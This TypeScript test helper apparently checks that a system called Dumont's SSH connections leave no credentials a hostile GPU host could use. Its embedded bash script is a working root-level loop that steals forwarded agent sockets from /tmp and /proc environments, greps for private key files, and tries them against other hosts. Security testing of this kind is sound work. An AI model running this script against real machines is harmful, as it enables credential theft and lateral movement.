// A hostile GPU host, as its owner (root on the machine) would act: a loop that takes everything
// Dumont's connections might have left within reach — forwarded agent sockets (found in /tmp and in
// every process's environment) and private key files — and tries each against every host it knows
// (the standby as root and as its user, the other GPU slot). Every attempt is logged; a login that
// works is logged as SUCCESS. A decoy key authorized on the host itself is a control: the attacker
// must log in with it, or its failures prove nothing.
import type { SshConnection } from "../../dataplane/ssh/client.ts";

export interface AttackTarget {
  readonly user: string;
  readonly host: string;
  readonly port: number;
}

export const attackLog = "/root/attack.log";
export const attackTargets = "/root/attack-targets";

/** The loop, as a bash script (the host has what a GPU image has: bash, ssh, grep). */
export const attackerScript = `#!/bin/bash
log=${attackLog}
targets=${attackTargets}
try() { # credential user host port
  local credential=$1 user=$2 host=$3 port=$4 options=(-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -o LogLevel=ERROR -p "$port")
  local ok=1
  case $credential in
    agent:*) SSH_AUTH_SOCK=\${credential#agent:} timeout 8 ssh "\${options[@]}" -o IdentitiesOnly=no "$user@$host" 'echo owned > /tmp/owned-by-attacker' </dev/null >/dev/null 2>&1 && ok=0 ;;
    key:*) SSH_AUTH_SOCK= timeout 8 ssh "\${options[@]}" -o IdentitiesOnly=yes -i "\${credential#key:}" "$user@$host" 'echo owned > /tmp/owned-by-attacker' </dev/null >/dev/null 2>&1 && ok=0 ;;
  esac
  if [ $ok = 0 ]; then echo "SUCCESS $credential $user@$host:$port" >> "$log"; else echo "refused $credential $user@$host:$port" >> "$log"; fi
}
while true; do
  credentials=()
  for socket in /tmp/ssh-*/agent.*; do [ -S "$socket" ] && credentials+=("agent:$socket"); done
  for environ in /proc/[0-9]*/environ; do
    socket=$(tr '\\0' '\\n' < "$environ" 2>/dev/null | sed -n 's/^SSH_AUTH_SOCK=//p')
    [ -n "$socket" ] && [ -S "$socket" ] && credentials+=("agent:$socket")
  done
  while IFS= read -r file; do credentials+=("key:$file"); done < <(grep -rlsI -m1 -- "PRIVATE KEY" /root /tmp /var/tmp /home /workspace 2>/dev/null | head -40)
  echo "round \${#credentials[@]} credentials" >> "$log"
  if [ -f "$targets" ]; then
    while read -r user host port; do
      [ -n "$port" ] || continue
      for credential in $(printf '%s\\n' "\${credentials[@]}" | sort -u); do try "$credential" "$user" "$host" "$port"; done
    done < "$targets"
  fi
  sleep 0.3
done
`;

export function targetLines(targets: readonly AttackTarget[]): string {
  return targets.map((t) => `${t.user} ${t.host} ${t.port}\n`).join("");
}

/** Starts the attacker on a host (detached, so it outlives the connection), with a decoy key authorized on the host itself. */
export async function startAttacker(ssh: SshConnection, targets: readonly AttackTarget[]): Promise<void> {
  await ssh.run(["bash", "-c", `set -e
cat > /root/attack.sh
chmod 700 /root/attack.sh
rm -f /root/decoy /root/decoy.pub
ssh-keygen -q -t ed25519 -N '' -C attacker-decoy -f /root/decoy
mkdir -p /root/.ssh && cat /root/decoy.pub >> /root/.ssh/authorized_keys
: > ${attackLog}
nohup setsid bash /root/attack.sh >/dev/null 2>&1 < /dev/null &`], { stdin: attackerScript, timeoutMs: 30_000 });
  await addTargets(ssh, targets);
}

export async function addTargets(ssh: SshConnection, targets: readonly AttackTarget[]): Promise<void> {
  await ssh.run(["sh", "-c", `cat >> ${attackTargets}`], { stdin: targetLines(targets), timeoutMs: 30_000 });
}

export interface AttackReport {
  readonly rounds: number;
  readonly attempts: number;
  readonly successes: readonly string[];
  readonly credentialsSeen: readonly string[];
}

export function parseAttackLog(text: string): AttackReport {
  const lines = text.split("\n");
  const attempts = lines.filter((l) => l.startsWith("SUCCESS ") || l.startsWith("refused "));
  return {
    rounds: lines.filter((l) => l.startsWith("round ")).length,
    attempts: attempts.length,
    successes: [...new Set(attempts.filter((l) => l.startsWith("SUCCESS ")))],
    credentialsSeen: [...new Set(attempts.map((l) => l.split(" ")[1]!))],
  };
}

export async function readAttackLog(ssh: SshConnection): Promise<AttackReport> {
  const text = (await ssh.run(["cat", attackLog], { allowFailure: true, timeoutMs: 30_000 })).stdout;
  return parseAttackLog(text);
}
